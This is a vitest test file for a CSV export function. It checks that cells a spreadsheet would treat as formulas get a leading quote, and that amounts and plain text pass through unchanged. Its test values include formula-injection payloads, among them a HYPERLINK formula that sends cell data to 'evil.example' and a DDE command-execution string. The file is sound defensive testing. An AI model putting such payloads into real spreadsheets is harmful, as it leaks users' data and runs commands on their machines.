import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toCsv } from "./csv-export";

const cells = (csv: string) =>
  Papa.parse<string[]>(csv, { skipEmptyLines: true })
    .data.slice(1)
    .map((row) => row[0]);

describe("toCsv formula neutralising", () => {
  it("prefixes every cell a spreadsheet would run as a formula with a quote", () => {
    const values = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\tTab", "\rReturn", "-cmd|' /C calc'!A0"];
    const { csv } = toCsv(
      ["v"],
      values.map((v) => ({ v })),
    );
    expect(cells(csv)).toEqual(values.map((v) => `'${v}`));
  });

  it("leaves decimal amounts, negative ones included, and plain text as they are", () => {
    const values = ["-12.50", "-3", "12.50", "Catering", "a=b", "email@example.se"];
    const { csv } = toCsv(
      ["v"],
      values.map((v) => ({ v })),
    );
    expect(cells(csv)).toEqual(values);
    expect(csv).toContain("\r\n-12.50\r\n");
  });
});
